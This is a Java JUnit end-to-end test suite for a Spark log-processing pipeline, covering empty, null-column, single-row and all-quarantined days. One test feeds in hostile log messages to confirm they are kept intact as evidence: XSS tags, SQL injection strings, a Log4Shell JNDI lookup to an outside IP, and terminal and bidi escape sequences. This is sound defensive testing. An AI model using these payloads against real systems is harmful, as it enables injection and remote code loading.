package io.nightshift.jobs.e2e;

import static org.apache.spark.sql.functions.col;
import static org.apache.spark.sql.functions.lit;
import static org.apache.spark.sql.functions.unhex;
import static org.apache.spark.sql.functions.when;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HexFormat;
import java.util.List;

import org.apache.spark.sql.Column;
import org.apache.spark.sql.Row;
import org.apache.spark.sql.SparkSession;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import io.nightshift.jobs.EndToEnd;
import io.nightshift.jobs.TestLogs;
import io.nightshift.jobs.TestSpark;
import io.nightshift.jobs.base.ExitCodes;
import io.nightshift.jobs.cli.NightshiftCli;

/**
 * Degenerate and hostile nights go through every stage of the real {@code run}: they succeed, say what they saw, and
 * keep what they were given.
 */
@EndToEnd
class EdgeDaysTest {
    static SparkSession spark;

    @BeforeAll
    static void start() {
        spark = TestSpark.session();
    }

    private record Night(int exitCode, String namespace, String output) {
        Row lastRun() {
            return spark.sql("SELECT status, input_rows, quarantined_rows, stage_counts FROM nightshift." + namespace
                    + ".job_runs WHERE command = 'run' ORDER BY started_at DESC LIMIT 1").first();
        }

        long count(String table) {
            return spark.sql("SELECT count(*) FROM nightshift." + namespace + "." + table).first().getLong(0);
        }
    }

    private static Night run(Path dir, String date, String... extraYaml) throws Exception {
        return runIn(TestSpark.freshWarehouse().namespace(), dir, date, extraYaml);
    }

    private static Night runIn(String namespace, Path dir, String date, String... extraYaml) throws Exception {
        Path config = Files.writeString(dir.resolve("nightshift.yaml"), String.join("\n",
                "lake: {root: lake, dedup_key: event_id}",
                "warehouse: {path: '" + TestSpark.warehouse() + "', catalog: nightshift, namespace: " + namespace + "}",
                "rules: {directory: '" + TestSpark.repoRoot().resolve("rules") + "'}",
                "intel: {directory: '" + TestSpark.repoRoot().resolve("data-samples/threat_intel") + "'}",
                "reference: {service_catalog: '"
                        + TestSpark.repoRoot().resolve("data-samples/reference/service_catalog.csv")
                        + "', tenant_directory: '" + TestSpark.repoRoot().resolve("data-samples/reference/tenants.csv")
                        + "'}",
                String.join("\n", extraYaml),
                ""));
        Files.createDirectories(dir.resolve("lake"));
        PrintStream saved = System.out;
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        System.setOut(new PrintStream(out, true, StandardCharsets.UTF_8));
        int exit;
        try {
            exit = NightshiftCli.execute("run", "--date", date, "--config", config.toString());
        } finally {
            System.setOut(saved);
        }
        String printed = out.toString(StandardCharsets.UTF_8);
        System.out.print(printed);
        return new Night(exit, namespace, printed);
    }

    @Test
    void anEmptyDaySucceedsAndRecordsZeroRows(@TempDir Path dir) throws Exception {
        Night night = run(dir, "2026-11-20");
        assertThat(night.exitCode()).isEqualTo(ExitCodes.OK);
        assertThat(night.lastRun().<String>getAs("status")).isEqualTo("succeeded");
        assertThat(night.lastRun().<Long>getAs("input_rows")).isZero();
        assertThat(night.count("trend_hourly")).isZero();
        assertThat(night.count("incidents")).isZero();
    }

    @Test
    void aColumnThatGoesNullForAWholeDayIsReportedInTheOutputJobRunsLakeProfileAndReport(@TempDir Path dir)
            throws Exception {
        // Enough windows on each day for the anomaly model to train; the user column empties on the second day.
        TestLogs before = new TestLogs();
        TestLogs after = new TestLogs();
        for (int i = 0; i < 12; i++) {
            String hour = String.format("T%02d:00:00Z", i * 2);
            before.add("a" + i, "2026-11-19" + hour, "auth", "h" + (i % 2), "login ok", "INFO", "eu", "eu-1", "t1",
                    "user-" + i, "login", "success", null);
            after.add("b" + i, "2026-11-20" + hour, "auth", "h" + (i % 2), "login ok", "INFO", "eu", "eu-1", "t1",
                    null, "login", "success", null);
        }
        before.writePartition(spark, dir.resolve("lake"), "2026-11-19");
        after.writePartition(spark, dir.resolve("lake"), "2026-11-20");
        String namespace = TestSpark.freshWarehouse().namespace();
        Night first = runIn(namespace, dir, "2026-11-19");
        assertThat(first.exitCode()).isEqualTo(ExitCodes.OK);
        assertThat(first.output()).doesNotContain("WARNING");

        Night second = runIn(namespace, dir, "2026-11-20");
        assertThat(second.exitCode()).as("drift is reported, not fatal").isEqualTo(ExitCodes.OK);
        String warning = "column 'user' is null in all 12 rows of 2026-11-20; it had values on 2026-11-19";
        assertThat(second.output()).contains("WARNING " + warning);
        assertThat(second.lastRun().<scala.collection.Map<String, Long>>getAs("stage_counts")
                .get("columns_became_null").get()).isEqualTo(1L);
        assertThat(spark.sql("SELECT column_name FROM nightshift." + namespace + ".lake_profile WHERE date = "
                + "DATE'2026-11-20' AND status = 'became_null'").collectAsList())
                .extracting(r -> r.getString(0)).containsExactly("user");
        String report = Files.readString(TestSpark.warehouse().resolve("reports").resolve(namespace)
                .resolve("nightshift-report-2026-11-20.html"));
        assertThat(report).contains(warning.replace("'", "&#39;"));
    }

    @Test
    void aSingleRowDayGoesThroughEveryStage(@TempDir Path dir) throws Exception {
        new TestLogs().add("only", "2026-11-20T04:00:00Z", "checkout", "h1", "GET /cart 200 in 12 ms", "INFO")
                .writePartition(spark, dir.resolve("lake"), "2026-11-20");
        Night night = run(dir, "2026-11-20");
        assertThat(night.exitCode()).isEqualTo(ExitCodes.OK);
        assertThat(night.lastRun().<Long>getAs("input_rows")).isEqualTo(1L);
        assertThat(night.count("trend_hourly")).isEqualTo(1);
        assertThat(night.output()).contains("read-lake", "trend-aggregates", "rules", "threat-intel", "incidents",
                "publish", "cold start: no log history before 2026-11-20 to train on; the cluster detector is skipped");
    }

    @Test
    void aDayWhoseRowsAreAllQuarantinedSucceedsWithEveryRowKept(@TempDir Path dir) throws Exception {
        new TestLogs()
                .add("a", "not a time", "checkout", "h1", "x", "INFO")
                .add("b", "2026-11-20T01:00:00Z", null, "h1", "no service", "INFO")
                .add("c", "2026-11-20T02:00:00Z", "checkout", "h1", null, "INFO")
                .writePartition(spark, dir.resolve("lake"), "2026-11-20");
        Night night = run(dir, "2026-11-20");
        assertThat(night.exitCode()).isEqualTo(ExitCodes.OK);
        Row last = night.lastRun();
        assertThat(last.<Long>getAs("input_rows")).isEqualTo(3L);
        assertThat(last.<Long>getAs("quarantined_rows")).isEqualTo(3L);
        List<Row> quarantine = spark.sql("SELECT row_id, reason FROM nightshift." + night.namespace()
                + ".quarantine ORDER BY row_id").collectAsList();
        assertThat(quarantine).extracting(r -> r.<String>getAs("row_id")).containsExactly("a", "b", "c");
        assertThat(night.count("trend_hourly")).isZero();
    }

    /** A string's chars as bytes 0-255 (Latin-1), to write byte sequences that are not UTF-8. */
    private static byte[] bytes(String latin1) {
        return latin1.getBytes(StandardCharsets.ISO_8859_1);
    }

    @Test
    void hostileMessagesGoThroughEveryStageAndAreKeptFaithfullyAsEvidence(@TempDir Path dir) throws Exception {
        StringBuilder distinctTokens = new StringBuilder("tokens:");
        for (int i = 0; i < 5000; i++) {
            distinctTokens.append(' ').append(Integer.toString(i * 7919, 36)).append("q").append(i);
        }
        List<String> hostile = new java.util.ArrayList<>(List.of(
                "<script>alert('x')</script><img src=x onerror=alert(1)>",
                "'; DROP TABLE findings; -- \" OR 1=1",
                "\u001b[31mred alert\u001b[0m \u001b]0;title\u0007",
                "user \u202Enimda\u202C logged in \u200F\u200E",
                "nul \u0000 bell \u0007 backspace \b form \f vertical \u000B",
                "${jndi:ldap://198.51.100.9/a} %s %n {{7*7}}",
                "emoji \uD83D\uDD25 and combining e\u0301 and CJK \u65E5\u672C",
                distinctTokens.toString(),
                "x".repeat(1 << 20)));
        TestLogs logs = new TestLogs();
        for (int i = 0; i < 21; i++) {
            logs.add("h" + i, String.format("2026-11-20T03:%02d:00Z", 10 + i / 5), "auth", "auth-01",
                    hostile.get(i % hostile.size()) + " #" + i, "WARN", "eu-west", "eu-west-1", "tenant-1",
                    "victim' OR '1'='1", "login", "failure", null);
        }
        // Byte sequences that are not UTF-8 (a lone continuation byte, a truncated sequence, an overlong '/', a
        // surrogate): Parquet strings are bytes, so a lake can hold them.
        List<byte[]> invalid = List.of(bytes("pay \u00ff\u00fe by card"), bytes("cut \u00c3"),
                bytes("path \u00c0\u00af etc"), bytes("half \u00ed\u00a0\u0080 surrogate"));
        Column message = col("message");
        for (int i = 0; i < invalid.size(); i++) {
            logs.add("v" + i, "2026-11-20T03:13:30Z", "auth", "auth-01", "placeholder", "WARN", "eu-west",
                    "eu-west-1", "tenant-1", "victim' OR '1'='1", "login", "failure", null);
            message = when(col("event_id").equalTo("v" + i), unhex(lit(HexFormat.of().formatHex(invalid.get(i))))
                    .cast("string")).otherwise(message);
        }
        logs.frame(spark).withColumn("message", message).coalesce(1).write()
                .parquet(dir.resolve("lake/date=2026-11-20").toString());

        Night night = run(dir, "2026-11-20", "incidents: {max_evidence_per_finding: 50}");
        assertThat(night.exitCode()).isEqualTo(ExitCodes.OK);
        assertThat(spark.sql("SELECT count(*) FROM nightshift." + night.namespace()
                + ".findings WHERE detector_id = 'NS-AUTH-001'").first().getLong(0)).isEqualTo(1);
        List<Row> evidence = spark.sql("SELECT get_json_object(log_json, '$.message') AS message, log_json, sha256, "
                + "get_json_object(log_json, '$.invalid_utf8.message') AS raw_message "
                + "FROM nightshift." + night.namespace() + ".incident_evidence").collectAsList();
        java.util.Set<String> sent = new java.util.HashSet<>();
        for (int i = 0; i < 21; i++) {
            sent.add(hostile.get(i % hostile.size()) + " #" + i);
        }
        for (byte[] b : invalid) {
            // The JSON text shows what can be decoded (U+FFFD for the rest) ...
            sent.add(new String(b, StandardCharsets.UTF_8));
        }
        assertThat(evidence).hasSize(21 + invalid.size());
        assertThat(evidence).extracting(r -> r.<String>getAs("message")).containsExactlyInAnyOrderElementsOf(sent);
        // ... and the exact bytes are kept beside it: nothing the lake held is lost.
        List<byte[]> kept = evidence.stream().map(r -> r.<String>getAs("raw_message")).filter(java.util.Objects::nonNull)
                .map(b64 -> java.util.Base64.getDecoder().decode(b64)).toList();
        assertThat(kept).hasSize(invalid.size());
        for (byte[] b : invalid) {
            assertThat(kept).anySatisfy(k -> assertThat(k).isEqualTo(b));
        }
        for (Row r : evidence) {
            String json = r.getAs("log_json");
            assertThat(r.<String>getAs("sha256")).isEqualTo(org.apache.commons.codec.digest.DigestUtils.sha256Hex(
                    json.getBytes(StandardCharsets.UTF_8)));
        }
        assertThat(night.count("findings")).as("the user name with quotes did not escape into SQL").isPositive();
    }
}
